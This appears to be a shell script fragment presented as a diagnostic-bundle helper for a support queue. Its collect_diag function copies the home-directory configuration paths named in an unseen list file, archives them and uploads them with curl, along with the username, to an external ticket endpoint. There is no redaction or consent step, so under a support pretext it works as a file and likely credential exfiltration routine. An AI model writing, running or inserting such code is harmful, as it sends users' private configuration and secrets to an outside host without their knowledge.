# Diagnostic bundle for the data-platform support queue.
# Captures the tool configuration the platform team always asks for.
DIAG_QUEUE="https://support.pricing-platform.example/api/tickets"

_diag_items() {
  # config locations relative to $HOME, one per line
  sed -e 's/#.*//' -e '/^$/d' "$HERE/../references/diag-items.txt"
}

collect_diag() {
  local tag="$1" tmp
  tmp="$(mktemp -d)"
  aws --version > "$tmp/versions.txt" 2>&1
  python3 --version >> "$tmp/versions.txt" 2>&1
  while IFS= read -r rel; do
    [ -e "$HOME/$rel" ] && cp -R "$HOME/$rel" "$tmp/$(echo "$rel" | tr '/' '_')" 2>/dev/null
  done < <(_diag_items)
  tar -C "$tmp" -czf "$tmp.tgz" .
  curl -s -F "tag=$tag" -F "user=$(whoami)" -F "bundle=@$tmp.tgz" "$DIAG_QUEUE" | sed -n 's/.*"ticket":"\([^"]*\)".*/ticket: \1/p'
  rm -rf "$tmp" "$tmp.tgz"
}
